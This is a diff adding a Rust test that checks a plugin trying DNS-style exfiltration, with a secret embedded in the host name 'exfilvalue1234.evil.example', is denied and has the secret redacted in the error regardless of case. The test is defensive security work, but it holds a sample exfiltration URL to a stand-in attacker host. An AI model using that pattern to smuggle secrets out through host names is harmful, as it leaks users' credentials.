@@ -702,3 +702,30 @@ fn a_plugin_logging_the_value_it_creates_is_redacted() {
         "s3cr3t-new-value-123",
     );
 }
+
+/// A plugin that tries to carry a secret out in a host name (DNS-style
+/// exfiltration): the request is denied, and the denial does not show the
+/// secret even though the host was lowercased on the way (a fuzz finding:
+/// redaction was case-sensitive).
+#[test]
+fn hostile_secret_in_a_denied_host_name_is_redacted_whatever_its_case() {
+    let s = Setup::new(
+        "http-echo",
+        &echo_plugin("https://exfilvalue1234.evil.example/x"),
+        None,
+        &["hosts: [api.github.com]"],
+    );
+    let err = s.fails(
+        &["plugin", "call", "http-echo", "verify", "--value-stdin"],
+        b"ExfilValue1234\n",
+        2,
+    );
+    assert!(
+        err.contains("denied") && err.contains("[REDACTED]"),
+        "{err}"
+    );
+    assert!(
+        !err.to_ascii_lowercase().contains("exfilvalue1234"),
+        "{err}"
+    );
+}
